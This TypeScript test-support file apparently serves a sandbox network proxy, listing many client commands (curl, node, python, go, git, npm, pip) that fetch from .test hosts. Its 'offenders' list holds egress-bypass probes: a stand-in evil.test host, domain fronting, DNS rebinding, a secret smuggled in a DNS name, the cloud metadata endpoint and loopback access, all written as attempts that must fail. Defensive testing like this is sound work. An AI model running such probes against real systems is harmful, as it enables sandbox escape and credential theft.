import process from "node:process";
import { cached } from "../support/cache.ts";
import { at } from "./scratch.ts";
import type { SshServer } from "./ssh.ts";

/** A program run in the sandbox's network as it is: no proxy variable, no setting of ours but the trust files. */
export interface Client {
  readonly name: string;
  readonly argv: readonly string[];
  /** What it needs: a tool, or a shell command that succeeds. */
  readonly needs: string;
}

const node = process.execPath;

function client(name: string, argv: readonly string[], needs: string = argv[0] ?? ""): Client {
  return { name, argv, needs };
}

const python = (...lines: string[]): string[] => ["/usr/bin/python3", "-c", lines.join("\n")];

/** Clients that fetch https://echo.test/ in their own way and print what they got. */
export function fetchers(): Client[] {
  const get = "GET / HTTP/1.0\\r\\nHost: echo.test\\r\\n\\r\\n";
  const s_client = `printf '${get}' | openssl s_client -quiet -verify_return_error -CAfile "$SSL_CERT_FILE" -connect echo.test:443 -servername echo.test`;
  const socket =
    "const w = new WebSocket('wss://echo.test/'); w.onopen = () => w.send('x');" +
    "w.onmessage = (m) => { console.log(m.data); w.close() }; w.onerror = (e) => { console.log(e); process.exit(1) }";
  const h2 =
    "const s = require('http2').connect('https://echo.test'); const r = s.request({':path': '/'});" +
    "r.on('data', (d) => process.stdout.write(d)); r.on('end', () => s.close())";
  const aws =
    `PYTHONPATH=${cached.aws} AWS_ACCESS_KEY_ID=x AWS_SECRET_ACCESS_KEY=x AWS_DEFAULT_REGION=nono-test-1 ` +
    "/usr/bin/python3 -m awscli sts get-caller-identity --endpoint-url https://sts.test --query Arn --output text";
  const java = ["java", "-cp", cached.java];
  const compiled = `test -f ${cached.java}/Echo.class`;
  const cargo = `CARGO_HOME=${at("cargo")} ${cached.cargo} search -q tiny --index sparse+https://cargo.test/`;
  return [
    client("curl", ["curl", "-sS", "https://echo.test/"]),
    client("curl over IPv6", ["curl", "-6", "-sS", "https://echo.test/"]),
    client("curl with a large upload", [
      "sh",
      "-c",
      "head -c 3000000 /dev/zero | curl -sS --data-binary @- https://echo.test/",
    ]),
    client("node fetch", [
      node,
      "-e",
      "fetch('https://echo.test/').then(r=>r.text()).then(console.log)",
    ]),
    client("node WebSocket", [node, "-e", socket]),
    client("node HTTP/2", [node, "-e", h2]),
    client(
      "python urllib",
      python(
        "import urllib.request as u",
        "print(u.urlopen('https://echo.test/').read().decode())",
      ),
    ),
    client(
      "python requests",
      python("import requests", "print(requests.get('https://echo.test/').text)"),
      "/usr/bin/python3 -c 'import requests'",
    ),
    client(
      "python httpx",
      python("import httpx", "print(httpx.Client(http2=True).get('https://echo.test/').text)"),
      "/usr/bin/python3 -c 'import httpx, h2'",
    ),
    client("wget", ["wget", "-qO-", "https://echo.test/"]),
    client("go net/http", [cached.goClient, "https://echo.test/go"]),
    client("go net/http without cgo", [cached.goStatic, "https://echo.test/go"]),
    client("rust ureq", [cached.rustClient, "https://echo.test/"]),
    client("ruby", [
      "ruby",
      "-e",
      "require 'net/http'; print Net::HTTP.get(URI('https://echo.test/'))",
    ]),
    client("deno", [
      cached.deno,
      "eval",
      "console.log(await (await fetch('https://echo.test/')).text())",
    ]),
    client("AWS CLI", ["sh", "-c", aws], `test -d ${cached.aws}`),
    client("cargo", ["sh", "-c", cargo], cached.cargo),
    client("java", [...java, "Echo"], compiled),
    client("java with an Authenticator", [...java, "Authenticated"], compiled),
    client("openssl s_client", ["sh", "-c", s_client], "openssl"),
  ];
}

/** Package managers against their registries. */
export function installers(): Client[] {
  const npm = ["npm", "install", "--no-audit", "--no-fund", "--prefix", at("app"), "tiny"];
  const pip = "python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check";
  const from = ["-i", "https://pypi.test/simple", "-d", at("wheels"), "tiny"];
  return [client("npm install", npm), client("pip download", [...pip.split(" "), ...from])];
}

/** Resolvers other than the C library's, which bring their own DNS over UDP. */
export function resolvers(): Client[] {
  const cares =
    "require('dns').resolve4('ssh.test', (e, [a] = []) => { if (e) throw e;" +
    "require('net').connect(22, a).on('data', (d) => { console.log(String(d)); process.exit() }) })";
  const dug =
    "exec 2>&1; a=$(dig +short +tries=1 +time=3 ssh.test | tail -1); curl -sm5 telnet://$a:22 </dev/null | head -c 8";
  return [
    client("c-ares (node dns.resolve)", [node, "-e", cares]),
    client("musl", [cached.muslClient, "ssh.test", "22"]),
    client("dig", ["sh", "-c", dug], "dig"),
  ];
}

/** git over HTTPS, the credential injected, and HTTP/2 clients against nginx. */
export function nginxClients(): Client[] {
  const commit =
    "cd clone && git -c user.name=a -c user.email=a@nono.test commit -q --allow-empty -m agent && git push -q origin main";
  // More than 1 MiB: git sends it in chunks then, as it sends gzip in what it asks for.
  const large =
    "cd clone && head -c 3000000 /dev/urandom > blob && git add blob && git -c user.name=a -c user.email=a@nono.test commit -q -m large && git push -q origin main";
  const needs = "test -x /usr/sbin/nginx && test -x /usr/sbin/fcgiwrap";
  const cloned = ["clone", "-q", "https://git.test/repo.git", at("clone")];
  return [
    client("curl h2 to nginx", ["curl", "-sS", "--http2", "https://git.test/"], needs),
    client("curl h1 to nginx", ["curl", "-sS", "--http1.1", "https://git.test/"], needs),
    client("git clone", ["git", ...cloned], needs),
    client("git push", ["sh", "-c", commit], needs),
    client("git push of a large file", ["sh", "-c", large], needs),
    client("git fetch", ["git", "-C", at("clone"), "fetch", "-q", "origin"], needs),
  ];
}

export const needsGrpc = "/usr/bin/python3 -c 'import grpc'";

/** One that nobody looks into, and gRPC, of which nobody may notice that somebody does. */
export function tunnelled(grpcPeer: string): Client[] {
  const grpc = ["/usr/bin/python3", grpcPeer, "client", "grpc.test:443"];
  return [
    client("opaque with its own certificate", ["curl", "-sS", "https://opaque.test/"]),
    client("gRPC", grpc, needsGrpc),
  ];
}

/** git over SSH, and who waits for the server's first word. */
export function sshClients(ssh: SshServer | undefined): Client[] {
  const needs = ssh ? "true" : "sshd";
  const commit =
    "cd ssh-clone && git -c user.name=a -c user.email=a@nono.test commit -q --allow-empty -m agent && git push -q origin main";
  const first = python(
    "import socket",
    "print(socket.create_connection(('ssh.test', 22)).recv(99))",
  );
  return [
    client("git clone over SSH", ["git", "clone", "-q", ssh?.url ?? "", at("ssh-clone")], needs),
    client("git push over SSH", ["sh", "-c", commit], needs),
    client("server speaks first", first, needs),
    client("nghttp to nginx", ["nghttp", "https://git.test/"]),
  ];
}

const curl = (...args: string[]): string[] => ["curl", "-sS", "-m", "5", ...args];

/** What must fail, and how it is tried. */
export function offenders(): Client[] {
  return [
    client("denied name", curl("https://evil.test/")),
    client("denied address", curl("http://1.1.1.1/")),
    client("fronting", curl("--connect-to", "evil.test:443:echo.test:443", "https://evil.test/")),
    client("denied port", curl("http://ssh.test:443/")),
    client("no TLS on port 443", curl("http://opaque.test:443/")),
    client("rebinding", curl("https://rebound.test/")),
    client("a synthetic address nobody was given", curl("-k", "https://198.19.200.200/")),
    client(
      "data in a name",
      python("import socket", "socket.getaddrinfo('c2VjcmV0.evil.test', 443)"),
    ),
    client("metadata service", curl("http://169.254.169.254/latest/meta-data/")),
    client("the machine's loopback", curl("http://127.0.0.1:80/")),
    client(
      "UDP to the Internet",
      python(
        "import socket",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        "s.settimeout(1)",
        "s.connect(('1.1.1.1', 443))",
        "s.send(b'quic')",
        "s.recv(99)",
      ),
    ),
  ];
}
